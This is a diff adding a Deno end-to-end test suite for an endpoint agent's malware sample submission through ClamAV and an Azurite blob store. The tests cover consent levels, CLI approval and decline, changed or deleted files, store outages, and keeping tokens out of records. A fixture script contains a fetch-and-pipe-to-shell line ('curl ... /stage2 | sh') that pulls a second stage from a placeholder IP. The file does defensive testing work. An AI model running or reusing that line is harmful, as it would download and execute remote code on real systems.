@@ -1,0 +1,439 @@
+// Sample submission end to end with a real ClamAV (clamscan with a
+// signature database made here, writing its log) and a real sample store
+// (Azurite): what each level submits, holds or keeps, a person's consent
+// through the CLI, files that change or go, and a store that is down.
+import { deepEqual, equal, match, ok } from "node:assert/strict";
+import type { Agent } from "../../agent/agent.ts";
+import { listEvents, type StoredEvent } from "../../store/event_queries.ts";
+import { getSample, listSamples } from "../../store/sample_queries.ts";
+import { runCli, startTestAgent, tempDir } from "../_helpers.ts";
+import { AZURITE, type Azurite, sha256Hex, startAzurite } from "../uplink/_azurite.ts";
+import { makeCertificates, TLS_PEER_MISSING } from "../uplink/_tls_peer.ts";
+import { clamscan, NO_CLAMSCAN, writeHashDatabase } from "./_clamscan.ts";
+
+const SKIP = NO_CLAMSCAN !== "" || !AZURITE;
+
+/** A script with nothing personal in it: program code, admitted at safe. */
+const DROPPER = "#!/bin/sh\ncurl -s http://198.51.100.7/stage2 | sh\n";
+/** Text naming a person: held at safe. */
+const LETTER = "Dear Jane,\nthe invoice is attached. Write back to jane.doe@example.org\n";
+
+interface Setup {
+  agent: Agent;
+  dataDir: string;
+  managed: string;
+  files: { dropper: string; letter: string; second: string };
+  database: string;
+  log: string;
+  settings: Record<string, Record<string, unknown>>;
+}
+
+/** Files ClamAV will flag, a database that flags them, and an agent whose store is `store`. */
+async function setUp(
+  dir: string,
+  level: "none" | "safe" | "all",
+  samples: Record<string, unknown>,
+): Promise<Setup> {
+  const folder = `${dir}/files`;
+  await Deno.mkdir(folder);
+  const files = {
+    dropper: `${folder}/dropper.sh`,
+    letter: `${folder}/letter.txt`,
+    second: `${folder}/second letter.txt`,
+  };
+  await Deno.writeTextFile(files.dropper, DROPPER);
+  await Deno.writeTextFile(files.letter, LETTER);
+  await Deno.writeTextFile(files.second, `${LETTER}PS: or call jdoe.\n`);
+  const database = await writeHashDatabase(dir, Object.values(files));
+  const log = `${dir}/clamscan.log`;
+  const settings = {
+    cloudService: {
+      enabled: true,
+      diagnosticLevel: "optional",
+      automaticSampleSubmissionConsent: level,
+    },
+    samples: { detectionLog: log, ...samples },
+  };
+  const managed = `${dir}/managed.json`;
+  await Deno.writeTextFile(managed, JSON.stringify(settings));
+  const dataDir = `${dir}/data`;
+  const agent = await startTestAgent({ dataDir, managedFile: managed });
+  return { agent, dataDir, managed, files, database, log, settings };
+}
+
+/** ClamAV scans `files`; the agent reads its log, then submits what is due. */
+async function detectAndSubmit(setup: Setup, files: readonly string[]): Promise<void> {
+  const printed = await clamscan(setup.database, setup.log, files);
+  equal(printed.split("\n").filter((line) => line.endsWith(" FOUND")).length, files.length);
+  await setup.agent.collectNow("samples");
+  await setup.agent.collectNow("sample_submission");
+}
+
+async function records(agent: Agent, type: StoredEvent["type"]): Promise<StoredEvent[]> {
+  return (await listEvents(agent.store.db, { allowed: ["required", "optional"], type }))
+    .reverse();
+}
+
+/** The sample store's blobs: name to content. */
+async function blobs(
+  azurite: Azurite,
+): Promise<Map<string, Uint8Array<ArrayBuffer>>> {
+  const found = new Map<string, Uint8Array<ArrayBuffer>>();
+  for await (const blob of azurite.container.listBlobsFlat()) {
+    const bytes = await azurite.container.getBlockBlobClient(blob.name).downloadToBuffer();
+    found.set(blob.name, new Uint8Array(bytes));
+  }
+  return found;
+}
+
+async function storeSettings(dir: string, azurite: Azurite) {
+  const sasFile = `${dir}/samples.sas`;
+  await Deno.writeTextFile(sasFile, `${azurite.containerSas()}\n`, { mode: 0o600 });
+  return {
+    submissionUri: azurite.container.url,
+    sasTokenFile: sasFile,
+  };
+}
+
+/** Every stored record, as text: to look for what must never be in one. */
+async function everyRecord(agent: Agent): Promise<string> {
+  return JSON.stringify(
+    await listEvents(agent.store.db, { allowed: ["required", "optional"], limit: 1000 }),
+  );
+}
+
+Deno.test({
+  name: "at all, every detected sample goes to the sample store, whose blob is the file's SHA-256",
+  ignore: SKIP,
+  fn: async () => {
+    await using dir = await tempDir();
+    await using azurite = await startAzurite(dir.path, "samples");
+    const setup = await setUp(dir.path, "all", await storeSettings(dir.path, azurite));
+    try {
+      await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter]);
+      const detections = await records(setup.agent, "sample_detection");
+      deepEqual(detections.map((d) => d.parts.required?.decision), ["submit", "submit"]);
+      deepEqual(
+        detections.map((d) => d.parts.optional?.path),
+        [setup.files.dropper, setup.files.letter],
+      );
+      match(String(detections[0]!.parts.required?.signature), /^Vitrine\.Test\.Sample-0/);
+      equal(detections[0]!.parts.required?.file_type, "script with interpreter line");
+      match(String(detections[1]!.parts.required?.reason), /e-mail address \(1\)/);
+
+      const stored = await blobs(azurite);
+      equal(stored.size, 2);
+      for (const file of [setup.files.dropper, setup.files.letter]) {
+        const own = await sha256Hex(await Deno.readFile(file));
+        ok(stored.has(own), `a blob named after ${file}'s SHA-256`);
+        equal(await sha256Hex(stored.get(own)!), own, "the blob holds the file");
+      }
+      const completed = await records(setup.agent, "sample_submission_completed");
+      equal(completed.length, 2);
+      equal(completed[0]!.parts.required?.destination_host, `127.0.0.1:${azurite.port}`);
+      match(String(completed[0]!.parts.required?.blob_uri), /sig=REDACTED/);
+      equal((await records(setup.agent, "sample_submission_started")).length, 2);
+      const signature = new URLSearchParams(azurite.containerSas()).get("sig")!;
+      ok(!(await everyRecord(setup.agent)).includes(signature), "no record holds the signature");
+
+      // ClamAV flags the same file again (it does at every scan): nothing goes twice.
+      await detectAndSubmit(setup, [setup.files.dropper]);
+      const again = (await records(setup.agent, "sample_detection")).at(-1)!;
+      equal(again.parts.required?.decision, "keep");
+      match(String(again.parts.required?.reason), /detected before .* now submitted/);
+      equal((await blobs(azurite)).size, 2);
+
+      const sent = await runCli(["sent", "--data-dir", setup.dataDir]);
+      equal(sent.code, 0, sent.stderr);
+      const report = JSON.parse(sent.stdout);
+      deepEqual(report.submissions.map((s: { state: string }) => s.state), [
+        "submitted",
+        "submitted",
+      ]);
+    } finally {
+      await setup.agent.stop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "at safe, program code is submitted and a letter is held until approved in the CLI; a declined one never leaves",
+  ignore: SKIP,
+  fn: async () => {
+    await using dir = await tempDir();
+    await using azurite = await startAzurite(dir.path, "samples");
+    const setup = await setUp(dir.path, "safe", await storeSettings(dir.path, azurite));
+    try {
+      await detectAndSubmit(setup, [
+        setup.files.dropper,
+        setup.files.letter,
+        setup.files.second,
+      ]);
+      const decisions = (await records(setup.agent, "sample_detection"))
+        .map((d) => [d.parts.required?.decision, d.parts.required?.reason]);
+      equal(decisions[0]![0], "submit");
+      equal(decisions[1]![0], "hold");
+      match(String(decisions[1]![1]), /e-mail address \(1\).*held until a person consents/);
+      ok(!String(decisions[1]![1]).includes("jane.doe"), "the reason never quotes the data");
+      equal((await blobs(azurite)).size, 1, "only the script went");
+
+      const flags = ["--data-dir", setup.dataDir];
+      const pending = await runCli(["sample", "pending", ...flags]);
+      equal(pending.code, 0, pending.stderr);
+      const held = JSON.parse(pending.stdout).samples as { id: string; path?: string }[];
+      deepEqual(held.map((s) => s.path).sort(), [setup.files.second, setup.files.letter].sort());
+      const letter = held.find((s) => s.path === setup.files.letter)!;
+      const second = held.find((s) => s.path === setup.files.second)!;
+
+      const nameless = await runCli(["sample", "approve", letter.id, ...flags]);
+      equal(nameless.code, 2);
+      match(nameless.stderr, /--actor NAME is required/);
+      const approved = await runCli([
+        "sample",
+        "approve",
+        letter.id,
+        "--actor",
+        "Ada Admin",
+        ...flags,
+      ]);
+      equal(approved.code, 0, approved.stderr);
+      match(approved.stdout, /approved: the agent submits it; decided by Ada Admin/);
+      const declined = await runCli(["sample", "decline", second.id, "--actor", "Grace", ...flags]);
+      equal(declined.code, 0, declined.stderr);
+      const again = await runCli(["sample", "approve", second.id, "--actor", "Eve", ...flags]);
+      equal(again.code, 1);
+      match(again.stderr, /is declined, not held/);
+
+      await setup.agent.collectNow("sample_submission");
+      const stored = await blobs(azurite);
+      equal(stored.size, 2);
+      ok(stored.has(await sha256Hex(await Deno.readFile(setup.files.letter))));
+      ok(!stored.has(await sha256Hex(await Deno.readFile(setup.files.second))));
+      equal((await getSample(setup.agent.store.db, letter.id))?.state, "submitted");
+      const kept = await getSample(setup.agent.store.db, second.id);
+      equal(kept?.state, "declined");
+      equal(kept?.decided_by, "Grace");
+      equal(kept?.path, null, "a sample that will never leave keeps no path");
+      deepEqual(
+        (await records(setup.agent, "sample_decision")).map((d) => [
+          d.parts.required?.decision,
+          d.parts.required?.actor,
+        ]),
+        [["approve", "Ada Admin"], ["decline", "Grace"]],
+      );
+    } finally {
+      await setup.agent.stop();
+    }
+  },
+});
+
+Deno.test({
+  name: "at none, detections are recorded and nothing is submitted or held",
+  ignore: SKIP,
+  fn: async () => {
+    await using dir = await tempDir();
+    await using azurite = await startAzurite(dir.path, "samples");
+    const setup = await setUp(dir.path, "none", await storeSettings(dir.path, azurite));
+    try {
+      await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter]);
+      const detections = await records(setup.agent, "sample_detection");
+      deepEqual(detections.map((d) => d.parts.required?.decision), ["keep", "keep"]);
+      match(String(detections[0]!.parts.required?.reason), /Sample submission is off \(none\)/);
+      ok(detections[0]!.parts.required?.sha256, "the detection is recorded whole all the same");
+      equal((await blobs(azurite)).size, 0);
+      deepEqual(
+        (await listSamples(setup.agent.store.db, { limit: 10 })).map((s) => s.state),
+        ["kept", "kept"],
+      );
+      equal((await records(setup.agent, "sample_submission_started")).length, 0);
+    } finally {
+      await setup.agent.stop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "a sample changed or gone before it could be sent is dropped, and a level lowered to none withdraws what waits",
+  ignore: SKIP,
+  fn: async () => {
+    await using dir = await tempDir();
+    await using azurite = await startAzurite(dir.path, "samples");
+    // The cloud service off: samples wait.
+    const setup = await setUp(dir.path, "all", await storeSettings(dir.path, azurite));
+    const write = async (change: (s: Setup["settings"]) => void) => {
+      change(setup.settings);
+      await Deno.writeTextFile(setup.managed, JSON.stringify(setup.settings));
+      await setup.agent.reloadPolicy();
+    };
+    try {
+      await write((s) => s.cloudService!.enabled = false);
+      await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter, setup.files.second]);
+      ok(
+        setup.agent.status().problems.some((p) =>
+          /3 sample\(s\) wait .* the cloud service is off/.test(p)
+        ),
+        setup.agent.status().problems.join("\n"),
+      );
+      await Deno.writeTextFile(setup.files.dropper, "#!/bin/sh\necho replaced\n");
+      await Deno.remove(setup.files.letter);
+      await write((s) => s.cloudService!.enabled = true);
+      // The third waits while the store is unreachable... then submission is turned off.
+      await write((s) => s.cloudService!.automaticSampleSubmissionConsent = "none");
+      await setup.agent.collectNow("sample_submission");
+      await write((s) => s.cloudService!.automaticSampleSubmissionConsent = "all");
+      await setup.agent.collectNow("sample_submission");
+      equal((await blobs(azurite)).size, 0, "nothing was submitted");
+      const decisions = (await records(setup.agent, "sample_decision"))
+        .map((d) => `${d.parts.required?.decision}: ${d.parts.required?.reason}`);
+      equal(decisions.length, 3, decisions.join("\n"));
+      ok(
+        decisions.every((d) => /^withdraw: Sample submission is now off/.test(d)),
+        decisions.join("\n"),
+      );
+
+      // Again with the level kept: the changed file and the gone one are dropped.
+      await Deno.writeTextFile(setup.files.dropper, DROPPER);
+      await Deno.writeTextFile(setup.files.letter, LETTER);
+      await write((s) => s.cloudService!.enabled = false);
+      await detectAndSubmit(setup, [setup.files.dropper, setup.files.letter]);
+      await Deno.writeTextFile(setup.files.dropper, "#!/bin/sh\necho replaced again\n");
+      await Deno.remove(setup.files.letter);
+      await write((s) => s.cloudService!.enabled = true);
+      await setup.agent.collectNow("sample_submission");
+      equal((await blobs(azurite)).size, 0, "a changed or gone file is never submitted");
+      const dropped = (await records(setup.agent, "sample_decision"))
+        .filter((d) => d.parts.required?.decision === "drop")
+        .map((d) => String(d.parts.required?.reason));
+      equal(dropped.length, 2, dropped.join("\n"));
+      ok(dropped.some((r) => /changed since it was detected/.test(r)), dropped.join("\n"));
+      ok(dropped.some((r) => /the file is gone|does not exist/.test(r)), dropped.join("\n"));
+    } finally {
+      await setup.agent.stop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "a sample store that is down: each attempt is recorded started then failed with its next time, and the signature stays out",
+  ignore: SKIP,
+  fn: async () => {
+    await using dir = await tempDir();
+    await using azurite = await startAzurite(dir.path, "samples");
+    const settings = await storeSettings(dir.path, azurite);
+    // A port where nothing listens.
+    const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+    const closed = (listener.addr as Deno.NetAddr).port;
+    listener.close();
+    const setup = await setUp(dir.path, "all", {
+      ...settings,
+      submissionUri: `http://127.0.0.1:${closed}/devstoreaccount1/samples`,
+      keepCopy: true,
+    });
+    try {
+      await detectAndSubmit(setup, [setup.files.dropper]);
+      const [failed] = await records(setup.agent, "sample_submission_failed");
+      ok(failed, "the failure is recorded");
+      equal(failed.parts.required?.status, null);
+      match(String(failed.parts.required?.error), /could not be reached/);
+      ok(Number(failed.parts.required?.retry_at) > Date.now(), "a later attempt is due");
+      equal((await records(setup.agent, "sample_submission_started")).length, 1);
+      const signature = new URLSearchParams(azurite.containerSas()).get("sig")!;
+      ok(!(await everyRecord(setup.agent)).includes(signature), "no record holds the signature");
+      const [sample] = await listSamples(setup.agent.store.db, { limit: 1 });
+      equal(sample?.state, "queued");
+      equal(sample?.attempts, 1);
+      // The private copy: readable by its owner only, in a folder only its owner enters.
+      ok(sample?.copy, "a copy was kept");
+      equal((await Deno.stat(sample!.copy!)).mode! & 0o777, 0o600);
+      equal((await Deno.stat(`${setup.dataDir}/samples`)).mode! & 0o777, 0o700);
+    } finally {
+      await setup.agent.stop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "with a private copy, a sample ClamAV removed after detection is still submitted, and the copy goes",
+  ignore: SKIP,
+  fn: async () => {
+    await using dir = await tempDir();
+    await using azurite = await startAzurite(dir.path, "samples");
+    const setup = await setUp(dir.path, "all", {
+      ...await storeSettings(dir.path, azurite),
+      keepCopy: true,
+    });
+    try {
+      await clamscan(setup.database, setup.log, [setup.files.dropper]);
+      await setup.agent.collectNow("samples");
+      const own = await sha256Hex(await Deno.readFile(setup.files.dropper));
+      await Deno.remove(setup.files.dropper);
+      await setup.agent.collectNow("sample_submission");
+      ok((await blobs(azurite)).has(own), "submitted from the copy");
+      const [sample] = await listSamples(setup.agent.store.db, { limit: 1 });
+      equal(sample?.state, "submitted");
+      deepEqual([...Deno.readDirSync(`${setup.dataDir}/samples`)], [], "no copy is left");
+    } finally {
+      await setup.agent.stop();
+    }
+  },
+});
+
+Deno.test({
+  name:
+    "to an https sample store: PUT <uri>/<sha256> with the bearer token, over TLS trusted through caFile",
+  ignore: NO_CLAMSCAN !== "" || TLS_PEER_MISSING.length > 0,
+  sanitizeResources: false,
+  sanitizeOps: false,
+  fn: async () => {
+    await using dir = await tempDir();
+    await makeCertificates(dir.path);
+    const received: { method: string; path: string; auth: string | null; body: Uint8Array }[] = [];
+    const server = Deno.serve({
+      hostname: "127.0.0.1",
+      port: 0,
+      cert: await Deno.readTextFile(`${dir.path}/server.pem`),
+      key: await Deno.readTextFile(`${dir.path}/server.key`),
+      onListen: () => {},
+    }, async (request) => {
+      received.push({
+        method: request.method,
+        path: new URL(request.url).pathname,
+        auth: request.headers.get("authorization"),
+        body: new Uint8Array(await request.arrayBuffer()),
+      });
+      return new Response(null, { status: 201, headers: { "x-request-id": "store-42" } });
+    });
+    const token = `${dir.path}/store.token`;
+    await Deno.writeTextFile(token, "s3cr3t-store-token\n", { mode: 0o600 });
+    const setup = await setUp(dir.path, "all", {
+      submissionUri: `https://127.0.0.1:${server.addr.port}/upload/`,
+    });
+    setup.settings.cloudService = {
+      ...setup.settings.cloudService,
+      tokenFile: token,
+      caFile: `${dir.path}/ca.pem`,
+    };
+    await Deno.writeTextFile(setup.managed, JSON.stringify(setup.settings));
+    await setup.agent.reloadPolicy();
+    try {
+      await detectAndSubmit(setup, [setup.files.dropper]);
+      const own = await sha256Hex(await Deno.readFile(setup.files.dropper));
+      equal(received.length, 1, setup.agent.status().problems.join("\n"));
+      deepEqual(
+        [received[0]!.method, received[0]!.path, received[0]!.auth],
+        ["PUT", `/upload/${own}`, "Bearer s3cr3t-store-token"],
+      );
+      equal(await sha256Hex(new Uint8Array(received[0]!.body)), own);
+      const [completed] = await records(setup.agent, "sample_submission_completed");
+      equal(completed?.parts.required?.request_id, "store-42");
+      ok(!(await everyRecord(setup.agent)).includes("s3cr3t"), "the token is in no record");
+    } finally {
+      await setup.agent.stop();
+      await server.shutdown();
+    }
+  },
+});
